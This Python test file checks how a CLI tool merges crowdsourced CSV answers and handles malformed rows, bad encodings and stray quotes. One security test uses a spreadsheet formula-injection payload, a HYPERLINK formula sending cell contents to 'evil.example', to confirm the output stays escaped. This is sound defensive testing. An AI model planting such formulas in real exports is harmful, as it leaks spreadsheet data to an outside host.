"""`bitesize consensus` on messy files: it skips what it cannot read, says so by
line on stderr and in --report, and merges the rest; --strict stops instead."""
from __future__ import annotations

import csv
import io
import json

from web.cli import cli


def write(path, text: str):
    path.write_text(text, encoding="utf-8")
    return path


def results(text: str) -> dict[str, str]:
    return {row["task"]: row["answer"] for row in csv.DictReader(io.StringIO(text))}


BOXES = ('task,worker,answer\n'
         'p1,w1,"[[10,10,50,50]]"\n'
         'p1,w2,"[[12,10,52,50]]"\n'
         'p1,w3,"[[30,30,30,80]]"\n'  # line 4: zero width
         'p2,w1,"[[0,0,20,20]]"\n'
         'p2,w2,"[[0,0,5"\n'          # line 6: a JSON cell cut short
         'p2,w3,"[[1,1,21,21]]"\n')


def test_a_messy_box_file_merges_with_its_skips_listed_and_reported(runner, tmp_path):
    answers = write(tmp_path / "boxes.csv", BOXES)
    report = tmp_path / "report.json"
    result = runner.invoke(cli, args=["consensus", "--type", "locate", "--report", str(report),
                                      str(answers)])
    assert result.exit_code == 0, result.output
    assert set(results(result.stdout)) == {"p1", "p2"}
    said = result.stderr.splitlines()
    assert said[0] == "consensus: skipped 2 rows it could not read"
    assert said[1].startswith("  line 4: answer: not a locate answer: Box 1 must have x1 < x2")
    assert said[2].startswith("  line 6: answer: not a locate answer: not a JSON list")
    assert said[3].startswith("consensus: 2 tasks, 4 answers, 3 workers, method locate")
    data = json.loads(report.read_text(encoding="utf-8"))
    assert (data["skipped"], data["truncated"], data["tasks"], data["answers"]) == (2, False, 2, 4)
    assert data["method"] == "locate aggregate" and "error" not in data
    assert [(row["line"], row["column"]) for row in data["rows"]] == [(4, "answer"),
                                                                       (6, "answer")]
    assert data["rows"][1]["reason"].startswith("not a locate answer: not a JSON list")


def test_strict_stops_at_the_first_bad_row_naming_its_line(runner, tmp_path):
    answers = write(tmp_path / "boxes.csv", BOXES)
    output = tmp_path / "results.csv"
    result = runner.invoke(cli, args=["consensus", "--type", "locate", "--strict", str(answers),
                                      "-o", str(output)])
    assert result.exit_code == 1
    assert "boxes.csv: line 4: answer: not a locate answer" in result.stderr
    assert "skipped" not in result.stderr and not output.exists()


def test_stderr_lists_the_first_twenty_and_the_report_all(runner, tmp_path):
    lines = ["task,worker,answer"] + [f"r{n},w{n % 3},{n}" for n in range(30)]
    lines += [f"r{n},w9,-{n + 1}" for n in range(25)]  # lines 32..56, under a 0..100 scale
    answers = write(tmp_path / "ratings.csv", "\n".join(lines) + "\n")
    config = write(tmp_path / "config.json", '{"question": "How sure?", "min": 0, "max": 100}')
    report = tmp_path / "report.json"
    result = runner.invoke(cli, args=["consensus", "--type", "number", "--config", str(config),
                                      "--report", str(report), str(answers)])
    assert result.exit_code == 0, result.output
    said = result.stderr.splitlines()
    assert said[0] == "consensus: skipped 25 rows it could not read"
    assert said[1:21] == [f"  line {n}: answer: not a number answer: Must be at least 0."
                          for n in range(32, 52)]
    assert said[21] == "  ...and 5 more"
    assert said[22].startswith("consensus: 30 tasks, 30 answers, 3 workers")
    data = json.loads(report.read_text(encoding="utf-8"))
    assert data["skipped"] == 25 and [row["line"] for row in data["rows"]] == list(range(32, 57))
    assert results(result.stdout) == {f"r{n}": str(n) for n in range(30)}


def test_nothing_readable_exits_non_zero_and_still_writes_the_report(runner, tmp_path):
    answers = write(tmp_path / "a.csv", "task,worker,answer\nt1,,cat\nt2,w1,\n")
    report = tmp_path / "report.json"
    result = runner.invoke(cli, args=["consensus", "--report", str(report), str(answers)])
    assert result.exit_code == 1
    assert "consensus: skipped 2 rows it could not read" in result.stderr
    assert "a.csv: none of its 2 rows could be read; nothing to merge" in result.stderr
    data = json.loads(report.read_text(encoding="utf-8"))
    assert data["error"] == "a.csv: none of its 2 rows could be read; nothing to merge"
    assert (data["skipped"], data["tasks"], data["answers"], data["method"]) == (2, 0, 0, "auto")
    assert data["rows"] == [{"line": 2, "column": "worker", "reason": "empty"},
                            {"line": 3, "column": "answer", "reason": "empty"}]


def test_a_classify_row_missing_its_worker_is_skipped(runner, tmp_path):
    answers = write(tmp_path / "a.csv", "task,worker,answer\n"
                    "t1,w1,cat\nt1,,dog\nt1,w2,cat\nt2,w1,dog\nt2,w2,dog\n")
    result = runner.invoke(cli, args=["consensus", "--method", "mv", str(answers)])
    assert result.exit_code == 0, result.output
    assert results(result.stdout) == {"t1": "cat", "t2": "dog"}
    assert result.stderr.splitlines()[:2] == ["consensus: skipped 1 row it could not read",
                                              "  line 3: worker: empty"]
    assert "4 answers, 2 workers, method mv" in result.stderr


def test_a_clean_file_says_nothing_about_skipping(runner, tmp_path):
    answers = write(tmp_path / "a.csv", "task,worker,answer\nt1,w1,cat\nt1,w2,cat\n")
    report = tmp_path / "report.json"
    result = runner.invoke(cli, args=["consensus", "--report", str(report), str(answers)])
    assert result.exit_code == 0, result.output
    assert result.stderr.startswith("consensus: 1 tasks, 2 answers")
    data = json.loads(report.read_text(encoding="utf-8"))
    assert (data["skipped"], data["rows"], data["tasks"]) == (0, [], 1)


def test_a_box_with_no_height_is_left_out_of_a_row_that_is_kept(runner, tmp_path):
    answers = write(tmp_path / "boxes.csv", BOXES + 'p2,w4,"[[0,0,20,20],[5,5,9,5]]"\n')
    report = tmp_path / "report.json"
    result = runner.invoke(cli, args=["consensus", "--type", "locate", "--report", str(report),
                                      str(answers)])
    assert result.exit_code == 0, result.output
    said = result.stderr.splitlines()
    assert said[3:5] == ["left out 1 part of rows it kept",
                         "  line 8: answer: Box 2 has no height: left out"]
    assert said[5].startswith("consensus: 2 tasks, 5 answers, 4 workers")
    data = json.loads(report.read_text(encoding="utf-8"))
    assert (data["skipped"], data["left_out"]) == (2, 1)
    assert data["left_out_rows"] == [{"line": 8, "column": "answer",
                                      "reason": "Box 2 has no height: left out"}]


def test_ratings_on_two_scales_merge_whole_without_a_config(runner, tmp_path):
    answers = write(tmp_path / "ratings.csv", "task,worker,answer\n"
                    "r1,w1,80\nr1,w2,-40\nr1,w3,76\n"
                    "r2,w1,10\nr2,w2,-100\nr2,w3,100\n")
    report = tmp_path / "report.json"
    result = runner.invoke(cli, args=["consensus", "--type", "number", "--report", str(report),
                                      str(answers)])
    assert result.exit_code == 0, result.output
    assert "skipped" not in result.stderr and "left out" not in result.stderr
    assert set(results(result.stdout)) == {"r1", "r2"}
    assert json.loads(report.read_text(encoding="utf-8"))["answers"] == 6


def test_a_formula_read_from_an_export_is_written_escaped_again(runner, tmp_path):
    """A security review had two volunteers answer =HYPERLINK(...): the export
    escaped it, `bitesize consensus` took the escape off to merge, and wrote
    RESULTS.csv with the formula live. Results are escaped as exports are, for
    text and for labels (and task ids) alike."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    quoted = formula.replace('"', '""')
    texts = write(tmp_path / "texts.csv", "task,worker,answer\n"
                  f'"\'=1+1",w1,"\'{quoted}"\n'
                  f'"\'=1+1",w2,"\'{quoted}"\n')
    typed = runner.invoke(cli, args=["consensus", "--type", "transcribe", str(texts)])
    assert typed.exit_code == 0, typed.output
    assert results(typed.stdout) == {"'=1+1": "'" + formula}
    labels = write(tmp_path / "labels.csv", "task,worker,answer\n"
                   "t1,w1,'@SUM(A1)\nt1,w2,'@SUM(A1)\nt1,w3,seal\n"
                   "t2,w1,'-1\nt2,w2,-1\nt2,w3,seal\n")
    merged = runner.invoke(cli, args=["consensus", str(labels)])
    assert merged.exit_code == 0, merged.output
    # a plain number is a label to keep as it is (sentiment -1/0/1), never escaped
    assert results(merged.stdout) == {"t1": "'@SUM(A1)", "t2": "-1"}


def test_input_that_used_to_crash_is_skipped_or_one_line(runner, tmp_path):
    """A robustness audit's tracebacks: a box cell nested 1,000 deep
    (RecursionError), a 400-digit coordinate (OverflowError in isfinite), labels
    "①" and "10²" that isdigit() calls digits (int() refused them), a config
    nested too deeply; and a full disk when the results are written."""
    deep = "[" * 1000 + "]" * 1000
    boxes = write(tmp_path / "boxes.csv", 'task,worker,answer\n'
                  'p1,w1,"[[10,10,50,50]]"\n'
                  f'p1,w2,"{deep}"\n'
                  f'p1,w3,"[[10,10,50,{"9" * 400}]]"\n')
    merged = runner.invoke(cli, args=["consensus", "--type", "locate", str(boxes)])
    assert merged.exit_code == 0, merged.output
    assert "skipped 2 rows" in merged.stderr
    labels = write(tmp_path / "labels.csv", "task,worker,answer\n"
                   "t1,w1,①\nt1,w2,①\nt1,w3,10²\nt2,w1,10²\nt2,w2,10²\n")
    named = runner.invoke(cli, args=["consensus", str(labels)])
    assert named.exit_code == 0, named.output
    assert results(named.stdout) == {"t1": "①", "t2": "10²"}
    config = write(tmp_path / "config.json", "[" * 100_000 + "]" * 100_000)
    nested = runner.invoke(cli, args=["consensus", "--type", "locate", "--config", str(config),
                                      str(boxes)])
    assert nested.exit_code == 1 and "nested too deeply" in nested.output
    assert "Traceback" not in nested.output
    full = runner.invoke(cli, args=["consensus", str(labels), "-o", "/dev/full"])
    assert full.exit_code == 1 and "cannot write the results" in full.output, full.output


def test_live_accuracy_counts_a_gold_task_without_a_result_as_missed(runner, tmp_path):
    """A robustness audit: with no counted answer, every result is blank, yet
    --method live scored 100% against gold that was the first label."""
    answers = write(tmp_path / "answers.csv", "task,worker,answer,counted\n"
                    "t1,w1,a,False\nt1,w2,a,False\nt2,w1,b,False\nt2,w2,b,False\n")
    gold = write(tmp_path / "gold.csv", "task,answer\nt1,a\nt2,a\n")
    result = runner.invoke(cli, args=["consensus", "--method", "live", "--gold", str(gold),
                                      str(answers)])
    assert result.exit_code == 0, result.output
    assert "accuracy 0.00%" in result.stderr, result.stderr


def test_a_gold_label_no_answer_gives_is_skipped_not_made_a_class(runner, tmp_path):
    """A robustness audit: without a config, gold "zzz" on t1 became a class of
    its own and turned t2 and t3 (answered b by everyone) away from b."""
    answers = write(tmp_path / "answers.csv", "task,worker,answer\n"
                    "t1,w1,a\nt1,w2,a\nt1,w3,b\nt2,w1,b\nt2,w2,b\nt2,w3,a\n"
                    "t3,w1,b\nt3,w2,b\nt3,w3,b\n")
    gold = write(tmp_path / "gold.csv", "task,answer\nt1,zzz\nt2,b\n")
    result = runner.invoke(cli, args=["consensus", "--gold", str(gold), str(answers)])
    assert result.exit_code == 0, result.output
    assert results(result.stdout) == {"t1": "a", "t2": "b", "t3": "b"}
    assert "line 2: answer: gold.csv: gold label 'zzz' is no answer's" in result.stderr
    strict = runner.invoke(cli, args=["consensus", "--strict", "--gold", str(gold),
                                      str(answers)])
    assert strict.exit_code == 1 and "gold label 'zzz'" in strict.output


def test_a_row_shorter_than_the_header_is_skipped_not_read_as_blank(runner, tmp_path):
    """A robustness audit: rows with no answer cell at all were read as "no text"
    (transcribe) and "none of these" (tag), and outvoted the real answer. A cell
    left empty is still an answer ("t1,w3," is no text)."""
    texts = write(tmp_path / "texts.csv", "task,worker,answer\n"
                  "t1,w1\nt1,w2\nt1,w3,hello\nt2,w1,\nt2,w2,\n")
    result = runner.invoke(cli, args=["consensus", "--type", "transcribe", str(texts)])
    assert result.exit_code == 0, result.output
    assert results(result.stdout)["t1"] == "hello"
    assert "line 2: answer: missing (the row has fewer cells than the header)" in result.stderr
    assert "skipped 2 rows" in result.stderr  # t2's empty cells are answers


def test_a_row_longer_than_the_header_is_skipped_not_cut_at_its_comma(runner, tmp_path):
    """A robustness audit: "Dear Sir, I write from the front" unquoted was read as
    "Dear Sir" and agreed with the others, even with --strict. Trailing empty
    cells (a spreadsheet's ",,") are not more cells."""
    texts = write(tmp_path / "texts.csv", "task,worker,answer\n"
                  "p1,alice,Dear Sir, I write from the front\np1,bob,Dear Sir\n"
                  "p1,carol,Dear Sir,,\n")
    result = runner.invoke(cli, args=["consensus", "--type", "transcribe", str(texts)])
    assert result.exit_code == 0, result.output
    assert "line 2: the row has 4 cells but the header has 3" in result.stderr
    assert "skipped 1 row" in result.stderr
    strict = runner.invoke(cli, args=["consensus", "--strict", "--type", "transcribe",
                                      str(texts)])
    assert strict.exit_code == 1 and "4 cells" in strict.output
    labels = write(tmp_path / "labels.csv", "task,worker,answer\nc1,alice,Deer,Fox\n"
                   "c1,bob,Fox\nc1,carol,Fox\n")
    result = runner.invoke(cli, args=["consensus", str(labels)])
    assert result.exit_code == 0 and "line 2: the row has 4 cells" in result.stderr


def test_a_bad_typed_gold_file_stops_before_any_result_is_written(runner, tmp_path):
    """A robustness audit: a tag gold file with an unknown tag failed only after
    RESULTS.csv was written whole; a task given two typed gold answers was taken
    silently (the later one won), where classify refuses it."""
    config = write(tmp_path / "config.json", json.dumps(
        {"question": "What is in it?", "tags": ["bird", "seal"]}))
    answers = write(tmp_path / "tags.csv", "task,worker,answer\nt1,w1,bird\nt1,w2,bird\n")
    out = tmp_path / "results.csv"
    unknown = write(tmp_path / "gold.csv", "task,answer\nt1,whale\n")
    bad = runner.invoke(cli, args=["consensus", "--type", "tag", "--config", str(config),
                                   "--gold", str(unknown), "-o", str(out), str(answers)])
    assert bad.exit_code == 1 and not out.exists(), bad.output
    twice = write(tmp_path / "twice.csv", "task,answer\nt1,bird\nt1,seal\n")
    doubled = runner.invoke(cli, args=["consensus", "--type", "tag", "--config", str(config),
                                       "--gold", str(twice), str(answers)])
    assert doubled.exit_code == 1 and "has two gold answers" in doubled.output


def test_a_header_repeated_mid_file_is_skipped_not_merged(runner, tmp_path):
    """A robustness audit joined two exports (the second with its BOM): the header
    line became a task "task" answered "answer" by a worker "worker"."""
    joined = write(tmp_path / "joined.csv", "task,worker,answer\nt1,w1,seal\nt1,w2,seal\n"
                   "\ufefftask,worker,answer\nt2,w1,gull\nt2,w2,gull\n")
    result = runner.invoke(cli, args=["consensus", str(joined)])
    assert result.exit_code == 0, result.output
    assert results(result.stdout) == {"t1": "seal", "t2": "gull"}
    assert "line 4: the header again (files joined together?)" in result.stderr


def test_one_stray_quote_costs_its_own_row_only(runner, tmp_path):
    """A robustness audit: one unclosed quote at line 2, then 2,000 good rows:
    every row after it was lost ("nothing to merge")."""
    rows = "".join(f"t{n},w{k},{'seal' if n % 2 else 'gull'}\n"
                   for n in range(500) for k in range(4))
    answers = write(tmp_path / "answers.csv", 'task,worker,answer\nt0,w9,"unclosed\n' + rows)
    result = runner.invoke(cli, args=["consensus", "--method", "mv", str(answers)])
    assert result.exit_code == 0, result.output
    merged = results(result.stdout)
    assert len(merged) == 500 and merged["t1"] == "seal" and merged["t0"] == "gull"
    assert "skipped 1 row" in result.stderr


def test_a_row_in_another_encoding_is_skipped_by_its_line(runner, tmp_path):
    """A robustness audit: one byte that is not UTF-8, at line 500,002 of a
    million rows, refused the whole file without saying where."""
    answers = tmp_path / "answers.csv"
    answers.write_bytes(b"task,worker,answer\nt1,w1,seal\nt1,w2,seal\n"
                        + "t1,w3,phoque caf\xe9\n".encode("latin-1")
                        + b"t2,w1,gull\nt2,w2,gull\n")
    result = runner.invoke(cli, args=["consensus", str(answers)])
    assert result.exit_code == 0, result.output
    assert results(result.stdout) == {"t1": "seal", "t2": "gull"}
    assert "line 4: not UTF-8 text" in result.stderr


def test_a_typed_summary_counts_the_answers_it_merged(runner, tmp_path):
    """A worker's answer given twice is merged once (the later): the summary said
    "6 answers" where 3 were merged, while classify said 3."""
    numbers = write(tmp_path / "n.csv", "task,worker,answer\n"
                    "t1,w1,3\nt1,w2,4\nt1,w3,4\nt1,w1,4\nt1,w2,4\nt1,w3,4\n")
    result = runner.invoke(cli, args=["consensus", "--type", "number", str(numbers)])
    assert result.exit_code == 0, result.output
    assert "1 tasks, 3 answers, 3 workers" in result.stderr, result.stderr
    assert results(result.stdout) == {"t1": "4"}


def test_the_readme_s_point_config_needs_no_question(runner, tmp_path):
    """A robustness audit: the README's `{"shape": "point"}` was refused for
    lacking the question, which never changes a merge."""
    config = write(tmp_path / "config.json", '{"shape": "point"}')
    points = write(tmp_path / "points.csv",
                   'task,worker,answer\nt1,w1,"[[10,10]]"\nt1,w2,"[[11,10]]"\n')
    result = runner.invoke(cli, args=["consensus", "--type", "locate", "--config",
                                      str(config), str(points)])
    assert result.exit_code == 0, result.output
    assert results(result.stdout) == {"t1": "[[10.5,10.0]]"}
    wrong = write(tmp_path / "wrong.json", '{"shape": "circle"}')
    refused = runner.invoke(cli, args=["consensus", "--type", "locate", "--config",
                                       str(wrong), str(points)])
    assert refused.exit_code == 1 and "shape" in refused.output


def test_a_stray_quote_closed_rows_later_costs_its_own_row_only(runner, tmp_path):
    """A robustness audit: `t1,w1,"Deer` ... `t4,w1,Badger"` read as one label made
    of four lines, t2-t4 gone, nothing reported, even with --strict. A label never
    breaks lines: the cell is a quote never closed, and the rows in it are read
    on their own. A transcription may break lines, so there it is an answer."""
    text = ('task,worker,answer\nt1,w1,"Deer\nt2,w1,Fox\nt3,w1,Fox\nt4,w1,Badger"\n'
            't5,w1,Fox\n')
    labels = write(tmp_path / "labels.csv", text)
    result = runner.invoke(cli, args=["consensus", str(labels)])
    assert result.exit_code == 0, result.output
    assert set(results(result.stdout)) == {"t2", "t3", "t4", "t5"}
    assert results(result.stdout)["t2"] == "Fox"
    assert "line 2: a cell runs over lines 2-5 (a quote never closed?)" in result.stderr
    strict = runner.invoke(cli, args=["consensus", "--strict", str(labels)])
    assert strict.exit_code == 1 and "line 2" in strict.output
    numbers = write(tmp_path / "numbers.csv", text.replace("Deer", "1").replace(
        "Fox", "2").replace("Badger", "3"))
    typed = runner.invoke(cli, args=["consensus", "--type", "number", str(numbers)])
    assert typed.exit_code == 0 and "a cell runs over lines 2-5" in typed.stderr
    texts = write(tmp_path / "texts.csv", text)
    free = runner.invoke(cli, args=["consensus", "--type", "transcribe", str(texts)])
    assert free.exit_code == 0 and "runs over" not in free.stderr
    assert results(free.stdout)["t1"].startswith("Deer")


def test_a_header_that_is_not_ours_says_what_it_most_likely_is(runner, tmp_path):
    """A robustness audit: semicolon and tab files were refused with no hint, a
    UTF-16 one with its NULs printed raw, and a config saved with a BOM was
    refused although CSV BOMs are read."""
    cases = {"semi.csv": (b"task;worker;answer\nt1;w1;a\n", "separated by semicolons"),
             "tabs.csv": (b"task\tworker\tanswer\nt1\tw1\ta\n", "separated by tabs"),
             "wide.csv": ("task,worker,answer\nt1,w1,a\n".encode("utf-16"), "UTF-16")}
    for name, (data, hint) in cases.items():
        (tmp_path / name).write_bytes(data)
        result = runner.invoke(cli, args=["consensus", str(tmp_path / name)])
        assert result.exit_code == 1 and hint in result.output, result.output
        assert "\x00" not in result.output
    config = tmp_path / "config.json"
    config.write_bytes('\ufeff{"question": "Which?", "labels": ["a", "b"]}'.encode())
    answers = write(tmp_path / "answers.csv", "task,worker,answer\nt1,w1,a\nt1,w2,a\n")
    result = runner.invoke(cli, args=["consensus", "--config", str(config), str(answers)])
    assert result.exit_code == 0, result.output


def test_a_counted_cell_that_is_neither_true_nor_false_is_skipped(runner, tmp_path):
    """A robustness audit: counted "maybe" was silently counted."""
    answers = write(tmp_path / "answers.csv", "task,worker,answer,counted\n"
                    "t1,w1,a,True\nt1,w2,b,maybe\nt1,w3,a,\nt2,w1,b,no\nt2,w2,b,1\n")
    result = runner.invoke(cli, args=["consensus", "--method", "live", str(answers)])
    assert result.exit_code == 0, result.output
    assert "line 3: counted: 'maybe' is neither true nor false" in result.stderr
    assert "skipped 1 row" in result.stderr


def test_rows_a_later_answer_replaced_are_counted_and_listed(runner, tmp_path):
    """A robustness audit: two of w1's three answers to t1 were dropped without a
    word. The later answer still counts (as the README says), and a file with
    such rows is readable, so --strict goes on too."""
    numbers = write(tmp_path / "numbers.csv",
                    "task,worker,answer\nt1,w1,10\nt1,w1,10\nt1,w1,100\nt1,w2,10\n")
    report = tmp_path / "report.json"
    for strict in ([], ["--strict"]):
        result = runner.invoke(cli, args=["consensus", "--type", "number", *strict,
                                          "--report", str(report), str(numbers)])
        assert result.exit_code == 0, result.output
        assert results(result.stdout) == {"t1": "55"}  # 100 and 10: the later w1 answer
        assert "2 rows replaced by the same worker's later answer" in result.stderr
        assert "line 2: replaced by line 3" in result.stderr
        found = json.loads(report.read_text())
        assert found["replaced"] == 2 and found["skipped"] == 0
        assert [r["line"] for r in found["replaced_rows"]] == [2, 3]
    labels = write(tmp_path / "labels.csv", "task,worker,answer\nt1,w1,a\nt1,w1,b\nt1,w2,b\n")
    result = runner.invoke(cli, args=["consensus", str(labels)])
    assert result.exit_code == 0 and "line 2: replaced by line 3" in result.stderr


def test_a_stray_quote_costs_one_row_however_the_csv_module_refuses_it(runner, tmp_path):
    """A review: resuming only after "unexpected end of data" lost every row behind
    a stray quote when more than 128 KB followed it (the csv module then says
    "field larger than field limit"), or when the quote that closed it had text
    behind it ("',' expected after '\\"'"): one skipped row, thousands gone."""
    big = "task,worker,answer\nt0,w1,\"a\n" + "".join(
        f"t{n},w1,{'ab' if n % 2 else 'b'}\n" for n in range(1, 20_001))
    labels = write(tmp_path / "big.csv", big)
    result = runner.invoke(cli, args=["consensus", str(labels)])
    assert result.exit_code == 0, result.output
    assert len(results(result.stdout)) == 20_000 and "skipped 1 row" in result.stderr
    closed = write(tmp_path / "closed.csv", 'task,worker,answer\nt1,w1,"a\nt2,w1,b\n'
                   't3,w1,"c" x\nt4,w1,d\n')
    result = runner.invoke(cli, args=["consensus", str(closed)])
    assert result.exit_code == 0, result.output
    assert set(results(result.stdout)) == {"t2", "t4"}, result.stderr
